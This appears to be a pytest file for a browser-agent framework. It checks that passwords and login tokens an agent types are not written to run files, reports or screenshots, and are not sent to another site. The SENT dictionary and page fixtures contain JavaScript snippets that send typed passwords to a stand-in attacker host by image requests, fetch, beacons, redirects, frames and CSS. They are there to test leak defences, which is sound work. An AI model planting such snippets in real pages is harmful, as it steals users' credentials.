"""A password that an agent types, and a token of the log-in, stand in no file of a run, however the page shows them again."""

from __future__ import annotations

import base64
import io
import re
import urllib.parse
from collections.abc import AsyncIterator, Iterator
from contextlib import suppress
from pathlib import Path

import msgspec
import pytest
import pytest_asyncio
from PIL import Image

from exact.action import ActionSpace
from exact.agents.agent import Agent
from exact.benchmarks.open import open_environments
from exact.config import LoginConfig, parse
from exact.context import Context, Evaluation, Proposal
from exact.errors import ActionError
from exact.report import build_index, build_report
from exact.runs.runner import Runner, create
from exact.task import Task
from tests.environments.browser.pages import find

from .attack import CONFIG, environments, require_sandbox
from .hostile import Answer, Attacker, attacker

pytestmark = pytest.mark.asyncio(loop_scope="module")
PASSWORD = "Kiwi&Zebra-77%q!xLm"
TOKEN = "tok_9fQ2mZ8rV5wK1xYb"
USER, BASIC = "basil", "Harbour+Lamp=44"
ECHO = """
const p = document.querySelector('#p').value, b64 = s => btoa(s), hex = s => [...s].map(c => c.charCodeAt(0).toString(16)).join('');
const say = (what, text) => document.body.insertAdjacentElement('beforeend', Object.assign(document.createElement('p'), {id: what,
  textContent: text}));
say('plain', 'You typed ' + p); say('capitals', p.toUpperCase()); say('small', p.toLowerCase()); say('base64', b64(p));
say('base64 in more', b64('x' + p + 'yz')); say('base64 of url', b64(p).replace(/=/g, '').replace(/[+]/g, '-')); say('hex', hex(p));
say('hex capitals', hex(p).toUpperCase()); say('percent', encodeURIComponent(p)); say('percent all', hex(p).replace(/../g, '%$&'));
say('entities', [...p].map(c => `&#${c.charCodeAt(0)};`).join(''));
say('spaced', [...p].join(' ')); say('dotted', [...p].join('.')); say('zero width', [...p].join('\\u200b'));
const split = say('split', ''); for (const c of p) split.append(Object.assign(document.createElement('b'), {textContent: c}));
const halves = say('halves', ''); halves.innerHTML = '<i></i><i></i>'; halves.children[0].textContent = p.slice(0, 9);
halves.children[1].textContent = p.slice(9);
const input = Object.assign(document.createElement('input'), {value: p, ariaLabel: 'echo', placeholder: p}); document.body.append(input);
document.body.append(Object.assign(document.createElement('button'), {ariaLabel: 'Button ' + p}),
  Object.assign(document.createElement('img'), {alt: p}), Object.assign(document.createElement('a'), {href: '/l?' + p, textContent: 'l'}));
document.title = 'Welcome ' + p; history.replaceState(0, '', '?p=' + encodeURIComponent(p) + '#' + hex(p));
fetch('/order/' + encodeURIComponent(p), {method: 'POST', body: p}).catch(() => 0);
fetch('/order/' + b64(p).replace(/[+/=]/g, '_'), {method: 'PUT'}).catch(() => 0); new Image().src = 'http://localhost:1/' + b64(p);
for (const path of ['/token', '/basic']) fetch(path).then(r => r.text()).then(t => { say(path, t); say(path + ' again', b64(t));
  say(path + ' letters', [...t].join(' ')); say(path + ' hex', hex(t)); try { say(path + ' read', atob(t.split(' ').pop())) } catch {} });
console.log(p); setTimeout(() => { throw new Error(p) }, 0);
"""
PAGE = f"""<!doctype html><title>Sign in</title><style>#big {{ font: 60px monospace; color: #f0f }}</style>
<form action=# onsubmit="return false"><input aria-label=User><input id=p aria-label=Password><button id=b>Go</button></form>
<p id=big></p><script>b.onclick = () => {{ {ECHO} }}; document.querySelector('#p').oninput = e => {{ big.textContent = e.target.value }}
</script>"""


def letters(text: str) -> str:
    """Return a text without what stands between its letters: spaces, dots, marks, zero-width characters."""
    return re.sub(r"[\s.,\u200b]+", "", text)


def quoted(text: str) -> str:
    return urllib.parse.quote(text, safe="")


def spellings(secret: str) -> dict[str, str]:
    """Return the ways in which a secret is found in files: name and text."""
    plain = secret.encode()
    shifted = {f"base64 at {n}": base64.b64encode(b"x" * n + plain).decode()[4 if n else 0 : -4] for n in range(2)}
    return {
        "plain": secret, "capitals": secret.upper(), "small": secret.lower(), "hex": plain.hex(), "hex capitals": plain.hex().upper(),
        "percent": quoted(secret), "percent all": "".join(f"%{each:02x}" for each in plain),
        "entities": "".join(f"&#{each};" for each in plain), "html": secret.replace("&", "&amp;"),
        "escaped": secret.replace("&", "\\u0026"), "spaced": " ".join(secret), "dotted": ".".join(secret),
        "zero width": "\u200b".join(secret),
        "first half": secret[:9], "second half": secret[9:], **shifted,
    }  # fmt: skip


SENT = {
    "by_picture": "new Image().src = 'OTHER/got?' + btoa(value)",
    "by_fetch": "fetch('OTHER/got/' + encodeURIComponent(value), {mode: 'no-cors'})",
    "by_header": "fetch('OTHER/got', {mode: 'no-cors', headers: {Accept: btoa(value), 'Accept-Language': [...value].join(' ')}})",
    "by_referrer": "history.replaceState(0, '', '?' + encodeURIComponent(value)); "
    "fetch('OTHER/got', {mode: 'no-cors', referrerPolicy: 'unsafe-url'})",
    "by_redirect": "fetch('/hop', {mode: 'no-cors'})",
    "by_navigation": "location = 'OTHER/got?' + [...value].map(c => c.charCodeAt(0).toString(16)).join('')",
    "by_popup": "open('OTHER/got?' + [...value].reverse().join(''))",
    "by_frame": "const f = document.body.appendChild(document.createElement('iframe')); f.src = 'OTHER/frame'; "
    "f.onload = () => f.contentWindow.postMessage(encodeURIComponent(value), '*')",
    "by_style": "document.body.style.background = `url(OTHER/got?${encodeURIComponent(value)})`",
    "by_letters": "fetch('OTHER/got?typed=' + value.length + '-' + value.slice(-1).charCodeAt(0), {mode: 'no-cors'})",
    "by_beacon": "navigator.sendBeacon('OTHER/got', value)",
}
"""Scripts that send what was typed to the other site, which the task allows."""


class TypesThePassword:
    """Fill in the password by its name, press Go, and stop."""

    async def propose(self, context: Context, actions: ActionSpace, k: int) -> tuple[Proposal, ...]:
        seen = context.observation
        ids = {each.name: each.id for each in seen.elements}
        done = [step.action.name for step in context.history]
        text = 'stop "done"'
        if "Password" in ids and "fill" not in done:
            text = f'fill [{ids["Password"]}] "<password>"'
        elif "Go" in ids and "click" not in done:
            text = f"click [{ids['Go']}]"
        return (Proposal(action=actions.parse(text), prior=1.0),)

    async def evaluate(self, context: Context) -> Evaluation:
        return Evaluation(value=min(0.9, 0.1 + 0.2 * len(context.history)))


@pytest.fixture(scope="module")
def site() -> Iterator[Attacker]:
    with attacker() as made:
        made.own.answers.update({"/in": Answer(PAGE.encode()), "/token": Answer(echo="X-Token"), "/basic": Answer(echo="Authorization")})
        made.other.answers["/in"] = Answer(b"<form action=/got><input name=p aria-label=Password><button>Go</button></form>")
        form = f"<form action={made.beside}/got METHOD><input name=p aria-label=Password><button>Go</button></form>"
        made.own.answers["/by_post"] = Answer(form.replace("METHOD", "method=post").encode())
        for name, script in SENT.items():
            page = f'<input aria-label=Password oninput="{script}"><button>Go</button>'.replace("OTHER", made.beside)
            made.own.answers[f"/{name}"] = Answer(page.encode())
        made.own.answers["/by_get"] = Answer(form.replace("METHOD", "").encode())
        made.own.answers["/hop"] = Answer(b"", status=302, headers=(("Location", f"{made.beside}/got?{quoted(PASSWORD)}"),))
        made.other.answers["/frame"] = Answer(b"<script>onmessage = e => fetch('/got?' + e.data)</script>")
        yield made


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=["process"])
async def run(
    request: pytest.FixtureRequest, executable: str, site: Attacker, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Path]:
    """A run whose agent types a password into a page that shows it in every way, with its reports."""
    if request.param == "sandbox":
        require_sandbox()
    folder = tmp_path_factory.mktemp("run")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOSTILE_PASSWORD", PASSWORD)
        patch.setenv("HOSTILE_TOKEN", TOKEN)
        patch.setenv("HOSTILE_BASIC", BASIC)
        login = {
            "secrets": {"password": "$HOSTILE_PASSWORD"},
            "headers": {"X-Token": "$HOSTILE_TOKEN"},
            "user": USER,
            "password": "$HOSTILE_BASIC",
        }
        config = parse({
            "search": {"algorithm": "mcts", "iterations": 3, "k": 1, "depth": 3}, "reflection": {"kind": "builtin", "threshold": 0.01},
            "browser": {"sandbox": "never" if request.param == "process" else "auto", "login": login, "html": True, "settle_seconds": 1.0},
            "limits": {"actions": 4},
        })  # fmt: skip
        task = Task(id="hostile/echo", instruction="Sign in.", start=f"{site.start}/in", metadata={"outside": "{}"})
        made = create(folder / "run", (task,), config)
        runner = Runner(
            folder=made, config=config, open_environments=lambda task: open_environments(task, config, benchmark=False),
            build_agent=lambda *_: Agent(policy=TypesThePassword(), value=TypesThePassword()),
        )  # fmt: skip
        (line,) = await runner.run()
        assert line.failures == 0, line.reason
        build_report(made, task)
        build_report(made, task, share=True)
        build_index(made)
    yield folder / "run"


def contents(run: Path) -> Iterator[tuple[str, str]]:
    """Return name and text of every file of a run, and of the texts that its pages embed."""
    for path in sorted(run.rglob("*")):
        if path.is_file() and path.suffix != ".png":
            yield str(path.relative_to(run)), path.read_bytes().decode("utf-8", "replace")
        yield "the names of the files", path.name


@pytest.mark.parametrize("spelling", sorted(spellings(PASSWORD)))
async def test_a_typed_password_stands_in_no_file(run: Path, spelling: str) -> None:
    text = spellings(PASSWORD)[spelling]
    assert [name for name, content in contents(run) if text in content] == []


async def test_a_password_that_is_split_over_elements_stands_in_no_file(run: Path) -> None:
    """The accessibility tree has each letter in a line of its own."""
    lines = re.compile(r'(?:StaticText|generic|strong|text) "((?:[^"\\]|\\.))"')
    found = [name for name, content in contents(run) if PASSWORD[:8] in letters("".join(lines.findall(content.replace('\\"', '"'))))]
    assert found == []


@pytest.mark.parametrize(
    ("secret", "spelling"),
    [
        (TOKEN, "plain"),
        (TOKEN, "hex"),
        (TOKEN, "spaced"),
        (TOKEN, "base64 at 0"),
        (BASIC, "plain"),
        (BASIC, "base64 at 0"),
    ],
)
async def test_a_credential_of_the_log_in_stands_in_no_file(run: Path, secret: str, spelling: str) -> None:
    text = spellings(secret)[spelling]
    assert [name for name, content in contents(run) if text in content] == []


async def test_the_base64_of_user_and_password_stands_in_no_file(run: Path) -> None:
    text = base64.b64encode(f"{USER}:{BASIC}".encode()).decode().rstrip("=")
    assert [name for name, content in contents(run) if text in content] == []


def pictures(run: Path) -> list[bytes]:
    files = [path.read_bytes() for path in sorted(run.rglob("*")) if path.is_file()]
    return [content for content in files if content[:4] in (b"\x89PNG", b"RIFF", b"\xff\xd8\xff\xe0")]


async def test_a_password_is_in_no_picture(run: Path) -> None:
    """The page writes what is typed in magenta, a colour that nothing else has."""
    found = pictures(run)
    assert found, "the run has pictures"
    for picture in found:
        colours = Image.open(io.BytesIO(picture)).convert("RGB").getcolors(1 << 24) or []
        assert not [count for count, (red, green, blue) in colours if count > 20 and red > 200 and green < 90 and blue > 200]


@pytest.mark.parametrize(
    ("kind", "path"), [*(("process", path) for path in ("other", "by_post", "by_get", *SENT)), ("sandbox", "other"), ("sandbox", "by_get")]
)
async def test_a_password_of_one_site_is_not_given_to_another(
    executable: str, site: Attacker, monkeypatch: pytest.MonkeyPatch, kind: str, path: str
) -> None:
    """The task allows the other site too, and an agent searches. The password is the own site's."""
    monkeypatch.setenv("HOSTILE_PASSWORD", PASSWORD)
    login = LoginConfig(secrets={"password": "$HOSTILE_PASSWORD"})
    config = msgspec.structs.replace(CONFIG, login=login)
    start = f"{site.start}/in" if path == "other" else f"{site.start}/{path}"
    task = Task(id="hostile/other", instruction="Sign in.", start=start, origins=(site.beside,))
    site.other.heads.clear()
    site.other.bodies.clear()
    async with environments(kind, config) as factory, factory.open(simulation=True) as environment:
        seen = await environment.reset(task)
        with suppress(ActionError):
            if path == "other":
                seen = (await environment.step(environment.actions.parse(f'goto "{site.beside}/in"'))).observation or seen
            for act in ('fill [Password] "<password>"', "click [Go]"):
                verb, _, rest = act.partition(" [")
                name, _, text = rest.partition("]")
                if not any(name in each.name for each in seen.elements):
                    break  # the page has gone elsewhere
                found = (await environment.step(environment.actions.parse(f"{verb} [{find(seen, name).id}]{text}"))).observation
                seen = found or seen
    came = "".join(site.other.heads) + b"".join(site.other.bodies).decode("utf-8", "replace")
    forms = spellings(PASSWORD)
    known = ("plain", "percent", "base64 at 0", "hex", "spaced")
    assert [name for name in known if forms[name].lower() in came.lower()] == []
    assert not any(each in came for each in (PASSWORD[::-1], quoted(PASSWORD[::-1]), "typed="))
    assert urllib.parse.quote_plus(PASSWORD) not in came
